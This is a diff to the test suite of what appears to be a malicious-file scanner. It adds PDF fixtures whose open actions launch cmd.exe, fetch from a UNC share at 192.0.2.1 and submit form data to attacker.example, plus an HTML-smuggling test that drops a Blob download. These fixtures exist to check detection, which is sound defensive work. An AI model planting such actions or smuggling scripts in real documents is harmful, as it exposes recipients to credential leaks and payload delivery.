@@ -128,9 +128,17 @@ PORTABLE = [
         {"javascript"},
     ),
     ("launch.pdf", files.pdf({"/OpenAction": files.action("Launch", F="cmd.exe")}), {"openaction", "launch"}),
-    ("share.pdf", files.pdf({"/X": files.action("GoToR", F="\\\\192.0.2.1\\x.pdf")}), {"launch"}),
+    (
+        "share.pdf",
+        files.pdf({"/OpenAction": files.action("GoToR", F="\\\\192.0.2.1\\x.pdf")}),
+        {"openaction", "launch"},
+    ),
     ("carries.pdf", files.pdf(embedded={"a.exe": files.PROGRAM}), {"embedded"}),
-    ("form.pdf", files.pdf({"/X": files.action("SubmitForm", F="https://attacker.example/")}), {"submit"}),
+    (
+        "form.pdf",
+        files.pdf({"/OpenAction": files.action("SubmitForm", F="https://attacker.example/")}),
+        {"openaction", "submit"},
+    ),
     ("sealed.pdf", files.pdf(encryption=pikepdf.Encryption(user="not given", owner="x")), {"encrypted"}),
     ("given.pdf", files.pdf(encryption=pikepdf.Encryption(user="infected", owner="x")), {"decrypted"}),
     (
@@ -247,7 +255,7 @@ def test_honest_files_have_no_finding(name: str, data: bytes) -> None:
 
 
 LEADS = [
-    ("a.pdf", files.pdf({"/X": files.action("URI", URI=files.LINK)})),
+    ("a.pdf", files.pdf({"/AA": pikepdf.Dictionary(WC=files.action("URI", URI=files.LINK))})),
     ("script.pdf", files.pdf({"/OpenAction": JAVASCRIPT})),
     ("code.pdf", files.pdf_with_code(files.LINK)),
     ("code.png", files.png(files.qr_image(files.LINK))),
@@ -350,6 +358,15 @@ def test_what_is_given_out_is_bounded() -> None:
     assert len(page.text) <= limits.FILE_TEXT_CHARACTERS + 1
     section = look("a.one", files.onenote(*[b"file %d" % number for number in range(500)]))
     assert len(section.members) <= limits.FILE_MEMBERS
+
+
+def test_the_script_behind_a_large_literal_is_seen() -> None:
+    """A page larger than what is searched is searched at both ends, and says that it was not read whole."""
+    blob = b"A" * (limits.MARKUP_BYTES + 100)
+    page = (
+        b"<html><script>d='" + blob + b"';a.href=URL.createObjectURL(new Blob([d]));a.download='x.zip'</script></html>"
+    )
+    assert {"smuggled", "partial"} <= words(look("a.html", page))
 
 
 SLOW = [
